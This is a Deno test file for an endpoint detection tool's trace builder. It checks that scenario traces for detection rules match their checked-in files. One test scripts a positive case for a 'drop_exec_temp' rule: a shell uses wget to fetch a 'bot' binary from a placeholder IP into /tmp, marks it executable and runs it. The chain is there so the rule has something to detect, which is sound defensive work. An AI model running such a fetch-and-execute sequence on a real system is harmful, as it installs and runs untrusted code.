import { deepEqual, equal, ok } from "node:assert/strict";
import { join } from "node:path";
import { renderAll, stale, TESTS_DIR } from "./make_rule_tests.ts";
import { linuxLoginShell, Trace } from "./trace_builder.ts";
import { build, run, runArgv, sc } from "./scenario.ts";

Deno.test("checked-in scenario traces are what the scenarios build (rerun make_rule_tests.ts)", async () => {
  const rendered = renderAll();
  ok(rendered.size > 0);
  deepEqual(await stale(rendered), []);
});

Deno.test("stale() reports a trace that differs from its scenario", async () => {
  const rendered = renderAll([sc("no_such_rule_xyz", "user", [run("/usr/bin/id")], [])]);
  deepEqual(await stale(rendered), [
    join(TESTS_DIR, "no_such_rule_xyz.pos.jsonl"),
    join(TESTS_DIR, "no_such_rule_xyz.neg.jsonl"),
  ]);
});

Deno.test("the builder writes what the sensors report: fork, auth exec without args, notify exec", () => {
  const t = build("user", [runArgv("/tmp/x", ["/tmp/x", "-d"])]);
  const evs = t.events as {
    event: { action: string };
    process: { pid: number; args?: string[]; parent: { name?: string } };
    bm: { auth_id?: number };
    file?: { path: string };
  }[];
  const last = evs.filter((e) =>
    e.event.action === "exec" && (e.process.args?.[0] === "/tmp/x" || e.file?.path === "/tmp/x")
  );
  deepEqual(last.map((e) => e.event.action), ["exec", "exec"]);
  equal(last[0]!.bm.auth_id !== undefined && last[0]!.process.args === undefined, true);
  deepEqual(last[1]!.process.args, ["/tmp/x", "-d"]);
  equal(last[1]!.process.parent.name, "bash");
  const forkOf = evs.find((e) =>
    e.event.action === "fork" && e.process.pid === last[0]!.process.pid
  );
  ok(forkOf, "the exec is preceded by its fork");
  equal(evs.at(-1)!.event.action, "exit");
});

Deno.test("the builder reproduces a trace written by the Python builder it replaced, byte for byte", async () => {
  // policies/tests/linux/drop_exec_temp.pos.jsonl was written by bmtrace.py.
  const t = new Trace("linux");
  const sh = linuxLoginShell(t);
  const path = "/tmp/bot";
  const w = t.spawn(sh, "/usr/bin/wget", ["wget", "-q", "-O", path, "http://203.0.113.7/bot"]);
  t.write(w, path, { create: true });
  t.exit(w);
  t.tick(400);
  const c = t.spawn(sh, "/usr/bin/chmod", ["chmod", "+x", path]);
  t.exit(c);
  t.spawn(sh, path, [path]);
  equal(t.text(), await Deno.readTextFile(join(TESTS_DIR, "drop_exec_temp.pos.jsonl")));
});
